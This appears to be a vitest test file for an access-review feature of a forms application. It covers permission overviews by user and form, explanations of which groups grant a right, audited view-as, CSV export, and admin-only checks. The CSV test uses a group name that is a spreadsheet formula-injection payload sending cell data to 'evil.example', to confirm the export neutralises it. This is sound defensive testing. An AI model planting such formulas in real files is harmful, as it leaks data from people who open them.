/**
 * 权限查询: the overview (by user, by form, CSV), explain and view-as answer from the same
 * decision the operations enforce, for administrators only, each call audited.
 *
 * The overview is checked against grants and memberships generated at random (seeded, the
 * seed is printed with any failure) and a small reference model written here from the grant
 * vocabulary's rules, independently of lib/policy.
 */
import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import type { TestDatabase } from '../helpers/db';
import { useWorld, customerForm, type Who, type World } from '../helpers/world';
import { codeOf } from '../helpers/outcome';
import type { Caller } from '@/lib/auth/principal';
import { unsafeCallerAs } from '@/lib/auth/system-caller';
import { BOM } from '@/lib/access/csv';
import { type FieldMode, type Grant, type GrantScope } from '@/lib/policy';
import {
  accessByForm,
  accessByUser,
  accessOptions,
  explainAccess,
  exportAccessOverview,
  viewAsList,
  viewAsRecord,
  type ExplainResult,
} from '@/lib/access/operations';
import { actionSentence, fieldSentences } from '@/lib/access/wording';


let t: TestDatabase;
let w: World;
useWorld((db, world) => ((t = db), (w = world)));

// ------------------------------------------------------------------ the extended world

const HYPERLINK_GROUP = '=HYPERLINK("https://evil.example/?"&A1,"点击")';
const FIELD_KEYS = customerForm['x-order'];
const SCOPED = ['view', 'edit', 'delete', 'reveal', 'export', 'assign'] as const;
const UNSCOPED = ['create', 'import'] as const;
const MODES: FieldMode[] = ['hidden', 'masked', 'read', 'write-on-create', 'write'];
const rank = (m: FieldMode) => MODES.indexOf(m);

/** Groups and users the generated cases draw from, besides the world's own. */
const groups: { id: string; name: string }[] = [];
let disabledUser: string;
let centerUser: string;
/** Leads the whole sales centre: their department tree holds both sales departments. */
let centerLead: string;
let secondForm: string;
const hiddenForms: string[] = [];

const admin = (): Caller => w.caller('admin');
const as = (id: string): Caller => unsafeCallerAs(id, { locale: 'zh-CN', ip: '127.0.0.1' });
const callerOf = (who: Who) => w.caller(who);

async function user(email: string, departmentId: string | null, status: 'active' | 'disabled' = 'active') {
  return (
    await t.db.insertInto('users').values({ email, name: email.split('@')[0], password_hash: 'x', department_id: departmentId, status }).returning('id').executeTakeFirstOrThrow()
  ).id;
}

beforeAll(async () => {
  const center = (await t.db.selectFrom('departments').select('id').where('name', '=', '销售中心').executeTakeFirstOrThrow()).id;
  centerUser = await user('center@example.com', center);
  centerLead = await user('centerlead@example.com', center);
  disabledUser = await user('gone@example.com', w.departments.sales2, 'disabled');
  for (const g of await t.db.selectFrom('groups').select(['id', 'name']).execute()) groups.push(g);
  for (const name of ['审计', HYPERLINK_GROUP]) groups.push(await t.db.insertInto('groups').values({ name }).returning(['id', 'name']).executeTakeFirstOrThrow());

  const form = async (name: string, published: boolean, archived = false) => {
    const id = (
      await t.db
        .insertInto('forms')
        .values({ name, draft: JSON.stringify(customerForm), published_version: published ? 1 : 0, created_by: w.users.admin, archived_at: archived ? new Date() : null })
        .returning('id')
        .executeTakeFirstOrThrow()
    ).id;
    if (published) await t.db.insertInto('form_versions').values({ form_id: id, version: 1, schema: JSON.stringify(customerForm) }).execute();
    return id;
  };
  secondForm = await form('线索', true);
  // Never listed: archived, and never published (both hold grants below).
  hiddenForms.push(await form('旧客户', true, true), await form('草稿', false));
});

// ------------------------------------------------------------------ generated grants and the reference model

/** mulberry32: a small seeded generator, so a failing case can be replayed from its seed. */
function rng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let x = Math.imul(a ^ (a >>> 15), 1 | a);
    x = (x + Math.imul(x ^ (x >>> 7), 61 | x)) ^ x;
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
  return { next, pick: <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)], chance: (p: number) => next() < p };
}

interface Case {
  /** formId -> groupId -> stored grant (a valid Grant, or a malformed value) */
  grants: Map<string, Map<string, { grant: unknown; valid: boolean }>>;
  members: Map<string, string[]>;
}

function generateCase(seed: number, users: string[], forms: string[]): Case {
  const r = rng(seed);
  const grants: Case['grants'] = new Map();
  for (const formId of forms) {
    const byGroup = new Map<string, { grant: unknown; valid: boolean }>();
    for (const g of groups) {
      if (r.chance(0.3)) continue;
      if (r.chance(0.1)) {
        byGroup.set(g.id, { grant: { actions: { view: { scope: 'everyone' } }, fields: { '*': 'read' } }, valid: false });
        continue;
      }
      const fields: Record<string, FieldMode> = {};
      if (r.chance(0.7)) fields['*'] = r.pick(MODES);
      for (const k of FIELD_KEYS) if (r.chance(0.4)) fields[k] = r.pick(MODES);
      const actions: Record<string, unknown> = {};
      for (const a of SCOPED) {
        if (!r.chance(0.45)) continue;
        const kind = r.pick(['own', 'department', 'department-tree', 'all', 'condition'] as const);
        let scope: GrantScope = kind === 'condition' ? 'all' : kind;
        if (kind === 'condition') {
          scope = r.chance(0.5) ? { field: 'level', eq: 'VIP' } : { all: [{ field: '$owner', eq: '$me' }, { field: 'level', in: ['A', 'B'] }] };
          // A condition on a field the grant hides grants nothing (and is refused on save): keep it readable.
          if (rank(fields.level ?? fields['*'] ?? 'hidden') === 0) fields.level = 'read';
        }
        actions[a] = a === 'reveal' ? { scope, reason: r.chance(0.5) } : { scope };
      }
      for (const a of UNSCOPED) if (r.chance(0.4)) actions[a] = {};
      byGroup.set(g.id, { grant: { actions, fields } satisfies Grant, valid: true });
    }
    grants.set(formId, byGroup);
  }
  const members = new Map(users.map((u) => [u, groups.filter(() => r.chance(0.35)).map((g) => g.id)]));
  return { grants, members };
}

async function store(c: Case, users: string[]) {
  await t.db.deleteFrom('grants').execute();
  for (const [formId, byGroup] of c.grants) {
    for (const [groupId, g] of byGroup) await t.db.insertInto('grants').values({ form_id: formId, group_id: groupId, grant: JSON.stringify(g.grant) }).execute();
  }
  for (const formId of hiddenForms) {
    await t.db.insertInto('grants').values({ form_id: formId, group_id: groups[0].id, grant: JSON.stringify({ actions: { view: { scope: 'all' } }, fields: { '*': 'read' } }) }).execute();
  }
  await t.db.deleteFrom('group_members').where('user_id', 'in', users).execute();
  for (const [userId, gs] of c.members) for (const g of gs) await t.db.insertInto('group_members').values({ user_id: userId, group_id: g }).execute();
}

/** The reference: what a user holds on a form, straight from the grant rules (not lib/policy). */
function expectedRights(c: Case, userId: string, formId: string) {
  const held = [...(c.grants.get(formId) ?? [])].filter(([groupId, g]) => g.valid && c.members.get(userId)!.includes(groupId)).map(([groupId, g]) => ({ groupId, grant: g.grant as Grant }));
  const actions: Record<string, { groupId: string; scope: GrantScope | null }[]> = {};
  for (const { groupId, grant } of held) {
    for (const [a, rule] of Object.entries(grant.actions)) (actions[a] ??= []).push({ groupId, scope: (rule as { scope?: GrantScope }).scope ?? null });
  }
  const modeOf = (grant: Grant, key: string): FieldMode => grant.fields?.[key] ?? grant.fields?.['*'] ?? 'hidden';
  const fields: Record<string, FieldMode> = {};
  for (const key of FIELD_KEYS) {
    let best: FieldMode = 'hidden';
    for (const { grant } of held.filter((h) => h.grant.actions.view)) {
      let m = modeOf(grant, key);
      // On existing records write shows only where the grant also edits; write-on-create reads.
      if (m === 'write' && !grant.actions.edit) m = 'read';
      if (m === 'write-on-create') m = 'read';
      if (rank(m) > rank(best)) best = m;
    }
    fields[key] = best;
  }
  // Revealable somewhere: a grant that sees records, may reveal and shows the field masked.
  const reveal = FIELD_KEYS.filter((k) => held.some(({ grant }) => grant.actions.view && grant.actions.reveal && modeOf(grant, k) === 'masked'));
  return { actions, fields, reveal };
}

const sortBy = <T>(xs: T[], key: (x: T) => string) => [...xs].sort((a, b) => key(a).localeCompare(key(b)));

describe('the overview lists exactly the rights of generated grants', () => {
  const SEEDS = Array.from({ length: 12 }, (_, i) => 0x5eed + i * 7919);

  it.each(SEEDS)('seed %i: by user and by form', async (seed) => {
    const users = [...Object.values(w.users), centerUser, centerLead, disabledUser];
    const forms = [w.formId, secondForm];
    const c = generateCase(seed, users, forms);
    await store(c, users);
    const active = new Set(users.filter((u) => u !== disabledUser));

    for (const userId of users) {
      const got = await accessByUser(admin(), { userId });
      expect(got.subject.id).toBe(userId);
      const expectedForms = forms.filter((f) => Object.keys(expectedRights(c, userId, f).actions).length > 0);
      expect(sortBy(got.forms.map((f) => f.form.id), String)).toEqual(sortBy(expectedForms, String));
      for (const f of got.forms) {
        const exp = expectedRights(c, userId, f.form.id);
        const actions = Object.fromEntries(f.rights.actions.map((a) => [a.action, sortBy(a.because.map((b) => ({ groupId: b.group.groupId, scope: b.scope })), (x) => x.groupId)]));
        const wanted = Object.fromEntries(Object.entries(exp.actions).map(([a, bs]) => [a, sortBy(bs, (x) => x.groupId)]));
        expect(actions, `seed ${seed}, user ${userId}, form ${f.form.id}`).toEqual(wanted);
        expect(Object.fromEntries(f.rights.fields.map((x) => [x.key, x.mode])), `seed ${seed} fields`).toEqual(exp.fields);
        for (const [mode, keys] of Object.entries(f.rights.modes)) expect(keys.sort()).toEqual(FIELD_KEYS.filter((k) => exp.fields[k] === mode).sort());
        expect(f.rights.revealFields.sort(), `seed ${seed} reveal`).toEqual([...exp.reveal].sort());
      }
    }

    for (const formId of forms) {
      const got = await accessByForm(admin(), { formId });
      const expected = users.filter((u) => active.has(u) && Object.keys(expectedRights(c, u, formId).actions).length > 0);
      expect(sortBy(got.users.map((u) => u.subject.id), String), `seed ${seed}, form ${formId}`).toEqual(sortBy(expected, String));
      for (const u of got.users) {
        const exp = expectedRights(c, u.subject.id, formId);
        expect(u.rights.actions.map((a) => a.action).sort()).toEqual(Object.keys(exp.actions).sort());
        // The groups named are the user's own groups that hold a valid grant here.
        const groupsWithGrant = [...new Set(Object.values(exp.actions).flat().map((b) => b.groupId))].sort();
        expect(u.rights.groups.map((g) => g.groupId).sort()).toEqual(groupsWithGrant);
      }
    }

    // Archived and unpublished forms appear nowhere, though they hold grants.
    const options = await accessOptions(admin(), {});
    expect(options.forms.map((f) => f.id).sort()).toEqual([...forms].sort());
    for (const formId of hiddenForms) expect(await codeOf(accessByForm(admin(), { formId }))).toBe('not_found');
  });
});

// ------------------------------------------------------------------ explain

/** Fixed grants for the explain and view-as cases: three groups with different scopes and modes. */
async function fixedGrants() {
  const id = (name: string) => groups.find((g) => g.name === name)!.id;
  const set: [string, Grant][] = [
    [id('客服'), { actions: { view: { scope: 'all' }, reveal: { scope: 'all', reason: true } }, fields: { '*': 'read', phone: 'masked' } }],
    [id('销售'), { actions: { view: { scope: 'own' }, create: {}, edit: { scope: 'own' } }, fields: { '*': 'write', phone: 'read' } }],
    [id('部门主管'), { actions: { view: { scope: 'department-tree' } }, fields: { '*': 'read', phone: 'hidden' } }],
  ];
  await t.db.deleteFrom('grants').execute();
  for (const [groupId, grant] of set) await t.db.insertInto('grants').values({ form_id: w.formId, group_id: groupId, grant: JSON.stringify(grant) }).execute();
  // The world's memberships, and one person in all three groups at the top of the sales tree.
  await t.db.deleteFrom('group_members').execute();
  const member = (u: string, g: string) => t.db.insertInto('group_members').values({ user_id: u, group_id: id(g) }).execute();
  for (const u of ['sales1', 'sales2', 'sales3'] as const) await member(w.users[u], '销售');
  await member(w.users.support, '客服');
  await member(w.users.lead1, '部门主管');
  for (const g of ['销售', '客服', '部门主管']) await member(centerUser, g);
  await member(centerLead, '部门主管');
}

const groupsOf = (bs: { group: { groupName: string } }[]) => bs.map((b) => b.group.groupName).sort();
const fieldOf = (r: ExplainResult, key: string) => r.explanation.fields.find((f) => f.key === key)!;
const actionOf = (r: ExplainResult, a: string) => r.explanation.actions.find((x) => x.action === a)!;
const wording = (r: ExplainResult, locale: 'zh-CN' | 'en' = 'zh-CN') => ({
  locale,
  userName: r.subject.name,
  fields: r.form.fields,
  onRecord: r.recordId !== null,
  names: r.names,
});

describe('explain names the groups that made the decision', () => {
  beforeAll(fixedGrants);

  it('on the form: the most open mode and the group that gives it', async () => {
    const r = await explainAccess(admin(), { userId: centerUser, formId: w.formId, field: 'phone' });
    expect(r.explanation.fields.map((f) => f.key)).toEqual(['phone']);
    expect(fieldOf(r, 'phone').mode).toBe('read');
    expect(fieldSentences(wording(r), fieldOf(r, 'phone'))[0]).toBe('center 在此表单上最多可以看到 手机号（只读），因为用户组 销售，范围 本人');
    expect(groupsOf(actionOf(r, 'view').because)).toEqual(['客服', '部门主管', '销售']);
  });

  it("on another seller's record in the user's department tree: masked because of 客服", async () => {
    const recordId = w.records.sales1[0];
    const r = await explainAccess(admin(), { userId: centerUser, formId: w.formId, recordId });
    const phone = fieldOf(r, 'phone');
    expect(phone.mode).toBe('masked');
    // The groups that see this record: 客服 (all) and 部门主管 (the record's department is below the user's), not 销售 (own).
    expect(groupsOf(phone.because)).toEqual(['客服', '部门主管']);
    expect(fieldSentences(wording(r), phone)).toEqual(['center 可以看到此记录的 手机号（脱敏），因为用户组 客服，范围 全部', 'center 可以申请查看 手机号 的明文（需填写理由）']);
    expect(fieldSentences(wording(r, 'en'), phone)[0]).toBe('center can see 手机号 masked on this record because of group 客服, scope all');
    expect(groupsOf(actionOf(r, 'view').because)).toEqual(['客服', '部门主管']);
    expect(actionOf(r, 'edit').allowed).toBe(false);
    expect(actionSentence(wording(r), actionOf(r, 'edit'))).toBe('center 不能编辑此记录：没有任何用户组的授权覆盖此记录');
  });

  it("on the user's own record: read because of 销售", async () => {
    const own = randomUUID();
    await t.db
      .insertInto('records')
      .values({ id: own, form_id: w.formId, form_version: 1, values: JSON.stringify({ name: 'own', level: 'A' }), owner_id: centerUser, department_id: null, created_by: centerUser })
      .execute();
    const r = await explainAccess(admin(), { userId: centerUser, formId: w.formId, recordId: own, field: 'phone' });
    expect(fieldOf(r, 'phone').mode).toBe('read');
    expect(fieldSentences(wording(r), fieldOf(r, 'phone'))[0]).toBe('center 可以看到此记录的 手机号（只读），因为用户组 销售，范围 本人');
    expect(groupsOf(actionOf(r, 'edit').because)).toEqual(['销售']);
    await t.db.deleteFrom('records').where('id', '=', own).execute();
  });

  it('a hidden field says which groups hide it; no grant says so too', async () => {
    const lead = await explainAccess(admin(), { userId: w.users.lead1, formId: w.formId, recordId: w.records.sales2[0], field: 'phone' });
    expect(fieldSentences(wording(lead), fieldOf(lead, 'phone'))).toEqual(['lead1 看不到 手机号：能看到此记录的用户组都把它设为隐藏（用户组 部门主管 设为隐藏）']);
    const outside = await explainAccess(admin(), { userId: w.users.lead1, formId: w.formId, recordId: w.records.sales3[0], field: 'phone' });
    expect(fieldSentences(wording(outside), fieldOf(outside, 'phone'))).toEqual(['lead1 看不到 手机号：没有任何用户组能看到此记录']);
  });

  it('refuses unknown users, forms, records and fields', async () => {
    expect(await codeOf(explainAccess(admin(), { userId: randomUUID(), formId: w.formId }))).toBe('not_found');
    expect(await codeOf(explainAccess(admin(), { userId: w.users.sales1, formId: hiddenForms[0] }))).toBe('not_found');
    expect(await codeOf(explainAccess(admin(), { userId: w.users.sales1, formId: w.formId, recordId: randomUUID() }))).toBe('not_found');
    expect(await codeOf(explainAccess(admin(), { userId: w.users.sales1, formId: w.formId, field: 'nope' }))).toBe('invalid_input');
  });
});

// ------------------------------------------------------------------ view-as

describe('view-as shows what that user sees, read-only, audited', () => {
  beforeAll(fixedGrants);

  const cases: [string, () => string, () => string[]][] = [
    ['a seller: own records', () => w.users.sales1, () => w.records.sales1],
    ['support: every record', () => w.users.support, () => [...w.records.sales1, ...w.records.sales2, ...w.records.sales3]],
    ['a department lead: the department', () => w.users.lead1, () => [...w.records.sales1, ...w.records.sales2]],
    ['the head of the sales centre: every department below', () => centerLead, () => [...w.records.sales1, ...w.records.sales2, ...w.records.sales3]],
  ];

  it.each(cases)('%s', async (_name, userId, expected) => {
    const res = await viewAsList(admin(), { userId: userId(), formId: w.formId, pageSize: 200 });
    expect(res.subject.id).toBe(userId());
    expect(res.page.items.map((i) => i.id).sort()).toEqual([...expected()].sort());
    const event = await t.db
      .selectFrom('audit_events')
      .select(['actor_id', 'resource_id', 'form_id', 'record_ids', 'outcome'])
      .where('action', '=', 'access.viewAs')
      .orderBy('at', 'desc')
      .orderBy('id', 'desc')
      .executeTakeFirstOrThrow();
    expect(event).toMatchObject({ actor_id: w.users.admin, resource_id: userId(), form_id: w.formId, outcome: 'ok' });
    expect([...(event.record_ids ?? [])].sort()).toEqual([...expected()].sort());

    const one = await viewAsRecord(admin(), { userId: userId(), formId: w.formId, recordId: expected()[0] });
    expect(one.record.id).toBe(expected()[0]);
  });

  it("a record outside the user's view is not found, and the attempt is audited with the user", async () => {
    const before = await t.db.selectFrom('audit_events').select('id').where('action', '=', 'access.viewAs').where('outcome', '=', 'not_found').execute();
    expect(await codeOf(viewAsRecord(admin(), { userId: w.users.sales1, formId: w.formId, recordId: w.records.sales2[0] }))).toBe('not_found');
    const after = await t.db.selectFrom('audit_events').select(['id', 'resource_id']).where('action', '=', 'access.viewAs').where('outcome', '=', 'not_found').execute();
    expect(after.length).toBe(before.length + 1);
    expect(after.map((e) => e.resource_id)).toContain(w.users.sales1);
  });
});

// ------------------------------------------------------------------ CSV

/** RFC 4180 cells, to read the file the way a spreadsheet does. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  return rows;
}

describe('the access review CSV', () => {
  it('has a BOM, one line per user and form, and neutralises formulas in names', async () => {
    const evil = groups.find((g) => g.name === HYPERLINK_GROUP)!;
    const users = [...Object.values(w.users), centerUser, centerLead, disabledUser];
    const c = generateCase(0xc5f, users, [w.formId, secondForm]);
    // The formula-named group gives a right to a known user.
    c.grants.get(w.formId)!.set(evil.id, { grant: { actions: { view: { scope: 'all' } }, fields: { '*': 'masked' } }, valid: true });
    c.members.set(w.users.nobody, [evil.id]);
    await store(c, users);

    const byForm = await exportAccessOverview(admin(), { by: 'form' });
    expect(byForm.contentType).toBe('text/csv; charset=utf-8');
    expect(byForm.body.startsWith(BOM)).toBe(true);
    expect(byForm.filename).toMatch(/\.csv$/);
    const rows = parseCsv(byForm.body.slice(1));
    const [header, ...lines] = rows;
    expect(header[0]).toBe('用户');
    // No cell a spreadsheet would run as a formula.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const nobody = lines.find((l) => l[1] === 'nobody@example.com' && l[5] === '客户')!;
    expect(nobody[4]).toBe(`'${HYPERLINK_GROUP}`);
    // Inside a cell that starts otherwise the name is text already.
    expect(nobody[6]).toBe(`全部 (${HYPERLINK_GROUP})`);

    const expected: string[] = [];
    for (const formId of [w.formId, secondForm]) {
      for (const u of users.filter((x) => x !== disabledUser)) if (Object.keys(expectedRights(c, u, formId).actions).length) expected.push(`${u}:${formId}`);
    }
    const emails = new Map((await t.db.selectFrom('users').select(['id', 'email']).execute()).map((u) => [u.email, u.id]));
    const formIds = new Map([
      ['客户', w.formId],
      ['线索', secondForm],
    ]);
    expect(lines.map((l) => `${emails.get(l[1])}:${formIds.get(l[5])}`).sort()).toEqual(expected.sort());
    expect(byForm.rows).toBe(expected.length);

    // By user, one user: only their lines; the disabled user is listed there (their own review).
    const mine = await exportAccessOverview(admin(), { by: 'user', id: w.users.nobody });
    const mineLines = parseCsv(mine.body.slice(1)).slice(1);
    expect(new Set(mineLines.map((l) => l[1]))).toEqual(new Set(['nobody@example.com']));
  });

  it('is audited with its row count and the hash of the file', async () => {
    const res = await exportAccessOverview(admin(), { by: 'user' });
    const event = await t.db.selectFrom('audit_events').select(['actor_id', 'details']).where('action', '=', 'access.exportOverview').orderBy('at', 'desc').orderBy('id', 'desc').executeTakeFirstOrThrow();
    const { createHash } = await import('node:crypto');
    expect(event.actor_id).toBe(w.users.admin);
    expect(event.details).toMatchObject({ by: 'user', rows: res.rows, sha256: createHash('sha256').update(res.body, 'utf8').digest('hex') });
  });
});

// ------------------------------------------------------------------ admins only, every call audited

describe('admins only, and every call is audited', () => {
  const calls = () =>
    [
      ['access.options', (c: Caller) => accessOptions(c, {})],
      ['access.explain', (c: Caller) => explainAccess(c, { userId: w.users.sales1, formId: w.formId })],
      ['access.byUser', (c: Caller) => accessByUser(c, { userId: w.users.sales1 })],
      ['access.byForm', (c: Caller) => accessByForm(c, { formId: w.formId })],
      ['access.exportOverview', (c: Caller) => exportAccessOverview(c, { by: 'form', id: w.formId })],
      ['access.viewAs', (c: Caller) => viewAsList(c, { userId: w.users.support, formId: w.formId })],
      ['access.viewAs', (c: Caller) => viewAsRecord(c, { userId: w.users.support, formId: w.formId, recordId: w.records.sales1[0] })],
    ] as const;

  beforeAll(fixedGrants);

  it('refuses every user who is not an administrator, whatever their grants', async () => {
    for (const who of ['sales1', 'support', 'manager', 'lead1', 'nobody'] as const) {
      for (const [name, call] of calls()) expect(await codeOf(call(callerOf(who))), `${who} ${name}`).toBe('forbidden');
    }
    expect(await codeOf(accessOptions(as(centerUser), {}))).toBe('forbidden');
  });

  it('writes one audit event per call, by the admin', async () => {
    for (const [action, call] of calls()) {
      const count = async () =>
        (await t.db.selectFrom('audit_events').select('id').where('action', '=', action).where('actor_id', '=', w.users.admin).where('outcome', '=', 'ok').execute()).length;
      const before = await count();
      await call(admin());
      expect(await count(), action).toBe(before + 1);
    }
  });
});
